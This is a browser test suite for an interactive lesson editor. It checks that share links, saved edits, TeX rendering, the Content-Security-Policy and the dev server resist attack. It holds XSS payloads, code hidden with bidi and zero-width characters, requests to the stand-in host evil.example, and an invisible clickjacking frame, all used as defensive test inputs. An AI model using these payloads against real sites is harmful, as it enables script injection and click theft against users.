// Security in real Chromium: share links ask before running, saved data that is not this lesson's
// never runs, nothing from a link or from saved edits becomes HTML outside its cell's output, TeX
// runs with KaTeX's `trust` off, built pages carry a CSP that allows no third-party origin, and
// the dev server listens on localhost only unless asked. The threat model: SECURITY.md.
import { spawn, type ChildProcess } from "node:child_process";
import { readFileSync } from "node:fs";
import { createServer as createHttpServer } from "node:http";
import type { AddressInfo } from "node:net";
import { connect } from "node:net";
import { networkInterfaces } from "node:os";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { compileLesson } from "../../src/compile/index.ts";
import { encodeSaved } from "../../src/editor/saved.ts";
import { decodeShare, encodeShare, type SharedState } from "../../src/editor/share.ts";
import { buildAndServe, fixtureLessonsDir, launchBrowser, repoDir, startDevServer, type Browser, type Site } from "./browser.ts";
import { findEditor, isPwned, lessonText, openClean, typeAndRun } from "./editorPage.ts";
import { openLesson, readValue, settle } from "./lessonPage.ts";

let browser: Browser;
let dev: Site;
let url: string;

const lessonKey = "fixture-slider.md";
const slider = compileLesson(readFileSync(join(fixtureLessonsDir, "fixture-slider.md"), "utf8"), { file: lessonKey });
const doubledId = slider.cells.find((cell) => cell.outputs.includes("doubled"))!.id;
const payload = `<img src=x onerror="window.__pwned=1">`;

beforeAll(async () => {
  [browser, dev] = await Promise.all([launchBrowser(), startDevServer()]);
  url = `${dev.url}fixture-slider.html`;
});

afterAll(async () => {
  await browser?.close();
  await dev?.close();
});

/** Images anywhere in the page except inside cell outputs (where a cell may draw what it likes). */
function countInjected(page: Page): Promise<number> {
  return page.evaluate(() => [...document.querySelectorAll("img, script[src*='evil'], iframe")].filter((el) => !el.closest("[data-cell]")).length);
}

describe("share links", () => {
  it("run nothing before the reader agrees", async () => {
    const hash = encodeShare({ v: 1, lesson: lessonKey, cells: { [doubledId]: "window.__pwned = 1;\nconst doubled: number = k * 10;" }, inputs: {} });
    const page = await browser.newPage();
    await openClean(page, url, url + hash);
    const dialog = page.locator("dialog[open]");
    await dialog.waitFor({ state: "visible" });
    await settle(page);
    await new Promise((done) => setTimeout(done, 1000)); // Anything that would run has had the time to.
    expect(await isPwned(page)).toBeUndefined();
    expect(await lessonText(page)).toContain("Twice k is 4.");
    await dialog.getByRole("button", { name: "Run shared code" }).click();
    // The same code does run once the reader agrees: the test above would have seen it. (Loading
    // the builder on a loaded machine can take seconds.)
    await expect.poll(() => isPwned(page), { timeout: 20_000 }).toBe(1);
    await expect.poll(() => lessonText(page)).toContain("Twice k is 20.");
    await page.close();
  });

  it("put nothing from the link into the page as HTML", async () => {
    // A valid link with the payload in sources, string values and an unknown input's name…
    const valid = encodeShare({
      v: 1,
      lesson: lessonKey,
      cells: {
        [doubledId]: `// ${payload}\nconst doubled: number = k * 10; const note = ${JSON.stringify(payload)};`,
        ["abcdef0123"]: payload,
      },
      inputs: { k: 3, note: payload, img: payload },
    });
    const page = await browser.newPage();
    await openClean(page, url, url + valid);
    const dialog = page.locator("dialog[open]");
    await dialog.waitFor({ state: "visible" });
    await expect.poll(() => dialog.textContent()).toContain(payload);
    expect(await countInjected(page)).toBe(0);
    await dialog.getByRole("button", { name: "Run shared code" }).click();
    await expect.poll(() => lessonText(page)).toContain("Twice k is 30.");
    expect(await countInjected(page)).toBe(0);
    expect(await page.locator("img").count()).toBe(0);
    expect(await isPwned(page)).toBeUndefined();

    // …a string value for a real input, shown in the dialog…
    await openClean(page, url, url + encodeShare({ v: 1, lesson: lessonKey, cells: {}, inputs: { k: payload } }));
    await dialog.waitFor({ state: "visible" });
    await expect.poll(() => dialog.textContent()).toContain(`k = ${JSON.stringify(payload)}`);
    expect(await page.locator("img").count()).toBe(0);
    await page.keyboard.press("Escape");

    // …and links with the payload as a cell id or an input name, which are refused whole.
    const refused: SharedState[] = [
      { v: 1 as const, lesson: lessonKey, cells: { [payload]: "1" }, inputs: {} },
      { v: 1 as const, lesson: lessonKey, cells: {}, inputs: { [payload]: 1 } },
      { v: 1 as const, lesson: payload, cells: {}, inputs: { k: 1 } },
    ];
    for (const state of refused) {
      await openClean(page, url, url + encodeShare(state));
      await expect.poll(() => page.locator(".lesson-edits-notice").textContent()).toMatch(/share link/i);
      expect(await page.locator("dialog[open]").count()).toBe(0);
      expect(await page.locator("img").count()).toBe(0);
      expect(await isPwned(page)).toBeUndefined();
    }
    await page.close();
  });
});

describe("making a share link", () => {
  it("leaves out what a password field holds, and says what the link carries", async () => {
    const page = await browser.newPage();
    await openClean(page, url);
    const editor = await findEditor(page, "const doubled");
    await typeAndRun(page, editor, 'const doubled: number = k * 10;\nconst pin = view(Inputs.password({label: "PIN"}));');
    const field = page.locator("#lesson input[type=password]");
    await field.waitFor();
    await field.fill("hunter2");
    await expect.poll(() => readValue(page, "pin")).toBe("hunter2");
    await page.getByRole("button", { name: "Share" }).click();
    const link = page.locator(".lesson-edits-link");
    await expect.poll(() => link.inputValue()).toMatch(/#share=/);
    const decoded = decodeShare(new URL(await link.inputValue()).hash, lessonKey);
    expect(decoded.ok && decoded.state.inputs).toEqual({ k: 2 });
    expect(JSON.stringify(decoded)).not.toContain("hunter2");
    expect(await page.locator(".lesson-edits-carries").textContent()).toMatch(/^This link carries your code for 1 cell \(line 16\) and 1 input value: k = 2\. Left out, from a cell with a password field: doubled, pin\.$/);
    await page.close();
  });
});

describe("the share dialog shows the code as JavaScript reads it", () => {
  const innocent = "const doubled: number = k * 10; // fixed a typo";
  const link = (source: string) => url + encodeShare({ v: 1, lesson: lessonKey, cells: { [doubledId]: source }, inputs: {} });

  /** Whether `text` is in the open dialog and wholly inside every box that could clip it (no scrolling needed). */
  function whereIs(page: Page, text: string): Promise<string> {
    return page.evaluate((wanted) => {
      const dialog = document.querySelector("dialog[open]");
      if (!dialog) return "no dialog";
      const walker = document.createTreeWalker(dialog, NodeFilter.SHOW_TEXT);
      let node: Text | null = null;
      while ((node = walker.nextNode() as Text | null)) if (node.data.includes(wanted)) break;
      if (!node) return "missing";
      const range = document.createRange();
      const at = node.data.indexOf(wanted);
      range.setStart(node, at);
      range.setEnd(node, at + wanted.length);
      const rect = range.getBoundingClientRect();
      if (rect.width === 0 || rect.height === 0) return "no size";
      for (let box: Element | null = node.parentElement; box && box !== document.documentElement; box = box.parentElement) {
        const style = getComputedStyle(box);
        if (box !== dialog && !/auto|scroll|hidden|clip/.test(style.overflowX + style.overflowY)) continue;
        const b = box.getBoundingClientRect();
        if (rect.left < b.left - 1 || rect.right > b.right + 1 || rect.top < b.top - 1 || rect.bottom > b.bottom + 1) return "out of view";
      }
      return "in view";
    }, text);
  }

  for (const [name, source] of [
    ["a lone CR and spaces", `${innocent}\r${" ".repeat(300)}window.__pwned = 1`],
    ["U+2028", `${innocent}\u2028${" ".repeat(300)}window.__pwned = 1`],
    ["500 blank lines", `${innocent}\n${"\n".repeat(500)}window.__pwned = 1`],
    ["a line too long for the box", `${innocent}; ${"x".repeat(400)}; window.__pwned = 1`],
  ] as const) {
    it(`shows a statement after ${name} without scrolling, and marks what hid it`, async () => {
      const page = await browser.newPage();
      await openClean(page, url, link(source));
      await page.locator("dialog[open]").waitFor({ state: "visible" });
      expect(await whereIs(page, "window.__pwned = 1")).toBe("in view");
      if (name !== "a line too long for the box") expect(await page.locator("dialog[open] mark.diff-marker").count()).toBeGreaterThan(0);
      await page.keyboard.press("Escape");
      expect(await isPwned(page)).toBeUndefined();
      await page.close();
    });
  }

  it("marks bidi controls and zero-width characters, and warns about them", async () => {
    const page = await browser.newPage();
    await openClean(page, url, link(`const doubled: number = k * 10; /*\u202E } \u2066if (k)\u2069 \u2066 */ window.__pwned\u200B = 1;`));
    const dialog = page.locator("dialog[open]");
    await dialog.waitFor({ state: "visible" });
    expect(await dialog.locator("mark.diff-marker").allTextContents()).toEqual(["⟨U+202E⟩", "⟨U+2066⟩", "⟨U+2069⟩", "⟨U+2066⟩", "⟨U+200B⟩"]);
    expect(await dialog.locator(".share-dialog-warning").textContent()).toMatch(/show as nothing/);
    await page.keyboard.press("Escape");
    await page.close();
  });

  it("says how many changed lines are out of view until the reader has scrolled through them", async () => {
    const page = await browser.newPage();
    const filler = Array.from({ length: 300 }, (_, i) => `// note ${i}`).join("\n");
    await openClean(page, url, link(`${innocent}\n${filler}\nwindow.__pwned = 1`));
    const dialog = page.locator("dialog[open]");
    await dialog.waitFor({ state: "visible" });
    const unseen = dialog.locator(".share-dialog-unseen");
    expect(await dialog.locator("h3").first().textContent()).toMatch(/302 lines added, 1 removed/);
    await expect.poll(() => unseen.textContent()).toMatch(/^\d+ changed lines of 303 not yet in view/);
    expect(await unseen.isVisible()).toBe(true);
    // Scrolled to the end, a step at a time as a reader would, every line has been in view.
    const box = dialog.locator(".share-dialog-changes");
    await box.evaluate(async (el) => {
      while (el.scrollTop + el.clientHeight < el.scrollHeight - 1) {
        el.scrollBy(0, el.clientHeight / 2);
        await new Promise((done) => requestAnimationFrame(() => setTimeout(done, 20)));
      }
    });
    await expect.poll(() => unseen.textContent()).toBe("You have had every changed line in view (303).");
    await page.keyboard.press("Escape");
    await page.close();
  });
});

describe("the loop guard", () => {
  it("stops a loop whose every turn is one slow built-in call, and the page answers", async () => {
    const page = await browser.newPage();
    await openClean(page, url);
    const editor = await findEditor(page, "const doubled");
    // Math.random is native, so building the data calls no guard; each turn then sorts 8 MB
    // (tens of ms). Read every 1,024th turn, the clock let this run for a minute or more.
    await typeAndRun(page, editor, "const data = new Float64Array(1e6).map(Math.random);\nlet turns = 0;\nwhile (true) { data.slice().sort(); turns++; }\nconst doubled: number = turns;");
    const id = await editor.getAttribute("data-editor");
    await expect.poll(() => page.locator(`[data-cell="${id}"] .cell-error`).textContent(), { timeout: 20_000 }).toContain("Stopped: this cell ran for more than 1 s");
    expect(await page.evaluate(() => 1 + 1)).toBe(2);
    await page.close();
  });
});

describe("saved edits", () => {
  const cell = (source: string) => ({ source, authorSource: "const doubled: number = k * 2;", savedAt: 1, index: 1, outputs: ["doubled"] });

  for (const [name, make, notice] of [
    ["that do not parse", () => `{"version":1,"lesson":"${lessonKey}","cells":{"${doubledId}":{"source":"window.__pwned=1`, /could not be read/],
    ["with a wrong checksum", () => encodeSaved({ version: 1, lesson: lessonKey, cells: { [doubledId]: cell("const doubled = 1;") } }).replace("const doubled = 1;", "window.__pwned = 1; const doubled = 1;"), /could not be read/],
    ["written for another lesson", () => encodeSaved({ version: 1, lesson: "other.md", cells: { [doubledId]: cell("window.__pwned = 1;\nconst doubled: number = k * 10;") } }), /could not be read/],
    ["with an id that is HTML", () => encodeSaved({ version: 1, lesson: lessonKey, cells: { [payload]: cell("window.__pwned = 1;") } }), /could not be read/],
    ["from another version", () => encodeSaved({ version: 1, lesson: lessonKey, cells: { [doubledId]: cell("window.__pwned = 1;\nconst doubled = 1;") } }).replace('"version":1', '"version":2'), /could not be read/],
  ] as const) {
    it(`that ${name} are ignored with a notice, never run`, async () => {
      const page = await browser.newPage();
      await openClean(page, url);
      await page.evaluate(([key, text]) => localStorage.setItem(key, text), [`live-lesson:${lessonKey}`, make()]);
      await page.reload();
      await page.waitForFunction(() => typeof (window as unknown as { lesson?: { idle?: unknown } }).lesson?.idle === "function");
      await expect.poll(() => page.locator(".lesson-edits-notice").textContent()).toMatch(notice);
      await settle(page);
      expect(await isPwned(page)).toBeUndefined();
      expect(await lessonText(page)).toContain("Twice k is 4.");
      await page.close();
    });
  }

  it("that break the page do not come back: a load that never finished, or #no-edits, opens the lesson without them", async () => {
    const page = await browser.newPage();
    await openClean(page, url);
    const key = `live-lesson:${lessonKey}`;
    const saved = encodeSaved({ version: 1, lesson: lessonKey, cells: { [doubledId]: cell('document.body.innerHTML = "";\nconst doubled: number = k * 10;') } });
    await page.evaluate(([key, text]) => localStorage.setItem(key, text), [key, saved]);
    const bodyText = () => page.evaluate(() => document.body.textContent ?? "");
    await page.reload();
    // The edit runs and empties the page, Reset button and all.
    await expect.poll(bodyText, { timeout: 20_000 }).toBe("");
    // The next visit opens the lesson without it, says why, and keeps it.
    await page.reload();
    await page.waitForFunction(() => typeof (window as unknown as { lesson?: { idle?: unknown } }).lesson?.idle === "function");
    await expect.poll(() => lessonText(page)).toContain("Twice k is 4.");
    await expect.poll(() => page.locator(".lesson-edits-notice").textContent()).toMatch(/did not finish loading last time/);
    expect(await page.evaluate((key) => localStorage.getItem(key), key)).toBe(saved);
    // Running them anyway is the reader's choice, and is not taken for a good load.
    await page.getByRole("button", { name: "Run my saved edits" }).click();
    await expect.poll(bodyText, { timeout: 20_000 }).toBe("");
    await page.reload();
    await expect.poll(() => page.locator(".lesson-edits-notice").textContent()).toMatch(/did not finish loading last time/);
    // Resetting them ends it; #no-edits opens a lesson without them whatever happened before.
    await page.getByRole("button", { name: "Reset all edits" }).click();
    await page.evaluate(([key, text]) => localStorage.setItem(key, text), [key, saved]);
    await page.goto("about:blank");
    await page.goto(`${url}#no-edits`);
    await page.waitForFunction(() => typeof (window as unknown as { lesson?: { idle?: unknown } }).lesson?.idle === "function");
    await settle(page);
    await expect.poll(() => lessonText(page)).toContain("Twice k is 4.");
    await expect.poll(() => page.locator(".lesson-edits-notice").textContent()).toMatch(/#no-edits/);
    expect(await page.evaluate((key) => localStorage.getItem(key), key)).toBe(saved);
    await page.close();
  });

  it("put nothing into the page as HTML outside the cell's output", async () => {
    const page = await browser.newPage();
    await openClean(page, url);
    const saved = encodeSaved({
      version: 1,
      lesson: lessonKey,
      cells: {
        // The reader's own valid edit runs again; its string shows as text, in its own output.
        [doubledId]: { ...cell(`const doubled: number = k * 10; display(${JSON.stringify(payload)});`), authorSource: payload },
        // An edit that matches no cell is kept, and must not be shown as HTML anywhere either.
        ["0123456789"]: { ...cell(payload), authorSource: payload, outputs: ["note"] },
      },
    });
    await page.evaluate(([key, text]) => localStorage.setItem(key, text), [`live-lesson:${lessonKey}`, saved]);
    await page.reload();
    await page.waitForFunction(() => typeof (window as unknown as { lesson?: { idle?: unknown } }).lesson?.idle === "function");
    await expect.poll(() => lessonText(page)).toContain("Twice k is 20.");
    await expect.poll(() => lessonText(page)).toContain("<img src=x onerror="); // As text.
    expect(await page.locator("img").count()).toBe(0);
    expect(await isPwned(page)).toBeUndefined();
    await page.close();
  });
});

describe("TeX", () => {
  const hostile = /javascript:|evil\.example|pwned-class|pwned-id|data-pwned/;

  it("compiles with KaTeX's trust off: no links, images, classes, ids, styles or data attributes", () => {
    const source = readFileSync(join(fixtureLessonsDir, "_security", "fixture-tex.md"), "utf8");
    const { html } = compileLesson(source, { file: "fixture-tex.md" });
    // The prose's math only: the listing may quote the source, and headings carry their own anchors.
    const math = html.slice(0, html.indexOf("Rendered in the page")).replace(/<a class="header-anchor"[^>]*>[\s\S]*?<\/a>/g, "");
    expect(math).toContain("katex");
    expect(math).not.toMatch(/<a\b|<img\b|class="[^"]*pwned|id="pwned|data-pwned|style="[^"]*evil/);
  });

  it("renders `tex` in the page with trust off too", async () => {
    const site = await startDevServer("_security");
    try {
      const page = await browser.newPage();
      const requests: string[] = [];
      page.on("request", (request) => requests.push(request.url()));
      const cells = await openLesson(page, `${site.url}fixture-tex.html`);
      expect(cells.every((c) => c.status === "fulfilled")).toBe(true);
      const found = await page.evaluate(
        (pattern) =>
          [...document.querySelectorAll("#lesson .katex *")]
            .filter((el) => el.tagName === "A" || el.tagName === "IMG" || [...el.attributes].some((a) => new RegExp(pattern).test(a.value) || a.name.startsWith("data-pwned")))
            .map((el) => el.outerHTML.slice(0, 120)),
        hostile.source,
      );
      expect(found).toEqual([]);
      expect(await page.locator("#lesson [data-cell] .katex").count()).toBeGreaterThan(0);
      expect(requests.filter((r) => r.includes("evil.example"))).toEqual([]);
      expect(await isPwned(page)).toBeUndefined();
      await page.close();
    } finally {
      await site.close();
    }
  });
});

describe("built pages", () => {
  let built: Site & { outDir: string };
  beforeAll(async () => {
    built = await buildAndServe("/course/");
  });
  afterAll(async () => {
    await built?.close();
  });

  it("carry a Content-Security-Policy that allows no third-party origin", () => {
    for (const name of ["index.html", "fixture-slider.html", "derivatives-and-gradients.html"]) {
      const html = readFileSync(join(built.outDir, name), "utf8");
      const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html)?.[1];
      expect(policy, name).toBeDefined();
      const directives = new Map(policy!.split(";").map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map(([k, ...v]) => [k!, v]));
      expect(directives.get("default-src"), name).toEqual(["'self'"]);
      for (const [directive, sources] of directives) {
        for (const source of sources) {
          // Only the page's own origin, inline data/blob URLs, and keywords or hashes: no host.
          expect(source, `${name} ${directive}`).toMatch(/^('self'|'none'|'unsafe-eval'|'unsafe-inline'|'unsafe-hashes'|'sha(256|384|512)-[A-Za-z0-9+/=]+'|data:|blob:)$/);
        }
      }
      for (const required of ["script-src", "connect-src", "img-src", "default-src"]) expect(directives.has(required) || required !== "default-src", name).toBe(true);
    }
  });

  it("block scripts, requests and images from another origin", async () => {
    const page = await browser.newPage();
    const reached: string[] = [];
    await page.route("https://evil.example/**", (route) => {
      reached.push(route.request().url());
      return route.fulfill({ status: 200, contentType: "text/javascript", body: "window.__pwned = 1;" });
    });
    await openLesson(page, `${built.url}fixture-slider.html`);
    const violations = await page.evaluate(async () => {
      const seen: string[] = [];
      document.addEventListener("securitypolicyviolation", (event) => seen.push(`${event.effectiveDirective} ${event.blockedURI}`));
      const script = document.createElement("script");
      script.src = "https://evil.example/x.js";
      document.head.append(script);
      const image = new Image();
      image.src = "https://evil.example/y.png";
      document.body.append(image);
      const fetched = await fetch("https://evil.example/z.json").then(() => "fetched", () => "blocked");
      await new Promise((done) => setTimeout(done, 500));
      return { seen, fetched };
    });
    expect(violations.fetched).toBe("blocked");
    expect(violations.seen).toEqual(
      expect.arrayContaining([expect.stringMatching(/^script-src.* https:\/\/evil\.example/), expect.stringMatching(/^connect-src https:\/\/evil\.example/), expect.stringMatching(/^img-src https:\/\/evil\.example/)]),
    );
    expect(reached).toEqual([]);
    expect(await isPwned(page)).toBeUndefined();
    await page.close();
  });

  it("answer no share link inside a frame: another site could hide the dialog and catch a click on \u201cRun shared code\u201d", async () => {
    const hash = encodeShare({ v: 1, lesson: lessonKey, cells: { [doubledId]: "window.__pwned = 1;\nconst doubled: number = k * 10;" }, inputs: {} });
    const page = await browser.newPage();
    // A built page cannot forbid framing itself (a <meta> policy cannot say frame-ancestors).
    const builtUrl = `${built.url}fixture-slider.html`;
    // Another origin (another port) frames the lesson, invisibly, under its own button. It is a real
    // local server: Chromium refuses to let a page it cannot place on the local network frame a local one.
    const body = `<button style="position:absolute;top:10px;left:10px">Win a prize</button><iframe src="${builtUrl}${hash}" style="opacity:0.01;position:absolute;top:0;left:0;width:900px;height:700px"></iframe>`;
    const attacker = createHttpServer((_, res) => res.writeHead(200, { "Content-Type": "text/html" }).end(body));
    await new Promise<void>((done) => attacker.listen(0, "127.0.0.1", done));
    await page.goto(`http://127.0.0.1:${(attacker.address() as AddressInfo).port}/`);
    await expect.poll(() => page.frames().some((f) => f.url().startsWith(builtUrl)), { timeout: 20_000 }).toBe(true);
    const frame = page.frames().find((f) => f.url().startsWith(builtUrl))!;
    await frame.waitForFunction(() => typeof (window as unknown as { lesson?: { idle?: unknown } }).lesson?.idle === "function", undefined, { timeout: 20_000 });
    await expect.poll(() => frame.locator(".lesson-edits-notice").textContent()).toMatch(/inside a frame/);
    expect(await frame.locator("dialog").count()).toBe(0);
    expect(await frame.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
    await page.close();
    attacker.close();
  });
});

describe("the dev server's Content-Security-Policy", () => {
  it("refuses in dev what built pages refuse, and the page still works", async () => {
    const site = await startDevServer("_security");
    try {
      const page = await browser.newPage();
      const violations: string[] = [];
      await page.exposeFunction("__violation", (text: string) => violations.push(text));
      await page.addInitScript(() => {
        document.addEventListener("securitypolicyviolation", (event) => (window as unknown as { __violation(t: string): void }).__violation(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`));
      });
      const reached: string[] = [];
      await page.route("https://evil.example/**", (route) => (reached.push(route.request().url()), route.fulfill({ status: 200, body: "{}" })));
      const cells = await openLesson(page, `${site.url}fixture-csp.html`);
      expect(cells.length).toBe(2);
      expect(await readValue(page, "thirdParty")).toBe("blocked");
      expect(await page.evaluate(() => (window as unknown as { __inline?: number }).__inline)).toBeUndefined();
      await expect.poll(() => violations).toEqual(
        expect.arrayContaining([
          expect.stringMatching(/^connect-src https:\/\/evil\.example/),
          expect.stringMatching(/^script-src-attr inline/),
          expect.stringMatching(/^object-src https:\/\/evil\.example/),
        ]),
      );
      expect(reached).toEqual([]);
      // Vite's client works under the policy: nothing it does (its websocket, its styles) is refused.
      expect(violations.filter((v) => /^connect-src wss?:|@vite\/client/.test(v))).toEqual([]);
      await page.close();
    } finally {
      await site.close();
    }
  });
});

describe("the dev server", () => {
  const external = Object.values(networkInterfaces())
    .flat()
    .find((a) => a && !a.internal && a.family === "IPv4")?.address;

  /** Starts `lesson dev` on a free port; resolves once it prints its URL. */
  async function startCli(args: string[]): Promise<{ child: ChildProcess; output: string; port: number }> {
    const port = 20_000 + Math.floor(Math.random() * 20_000);
    const child = spawn(process.execPath, [join(repoDir, "bin/lesson.js"), "dev", join(repoDir, "lessons"), "--port", String(port), ...args], {
      cwd: repoDir,
      stdio: ["ignore", "pipe", "pipe"],
      env: { ...process.env, BROWSER: "none", NO_COLOR: "1" },
    });
    let output = "";
    await new Promise<void>((done, fail) => {
      const timer = setTimeout(() => fail(new Error(`lesson dev did not start:\n${output}`)), 30_000);
      const read = (chunk: Buffer) => {
        output += chunk.toString();
        // Vite prints Local, then Network (when listening beyond this machine) at once after it.
        if (/Local:/.test(output)) clearTimeout(timer), setTimeout(done, 500);
      };
      child.stdout!.on("data", read);
      child.stderr!.on("data", read);
      child.once("exit", () => fail(new Error(`lesson dev exited:\n${output}`)));
    });
    const actual = Number(/Local:\s+http:\/\/[^:]+:(\d+)/.exec(output)?.[1] ?? port);
    return { child, output, port: actual };
  }

  function canConnect(host: string, port: number): Promise<boolean> {
    return new Promise((done) => {
      const socket = connect({ host, port });
      socket.setTimeout(2000, () => (socket.destroy(), done(false)));
      socket.once("connect", () => (socket.destroy(), done(true)));
      socket.once("error", () => done(false));
    });
  }

  it("listens on localhost only unless --host asks otherwise", async () => {
    const local = await startCli([]);
    try {
      expect(local.output).toMatch(/Local:\s+http:\/\/(localhost|127\.0\.0\.1|\[::1\]):\d+/);
      expect(local.output).not.toMatch(/Network:\s+http/);
      expect(await canConnect("127.0.0.1", local.port)).toBe(true);
      if (external) expect(await canConnect(external, local.port)).toBe(false);
    } finally {
      local.child.kill("SIGTERM");
    }
    const open = await startCli(["--host", "0.0.0.0"]);
    try {
      expect(open.output).toMatch(/Network:\s+http/);
      if (external) expect(await canConnect(external, open.port)).toBe(true);
    } finally {
      open.child.kill("SIGTERM");
    }
  });
});
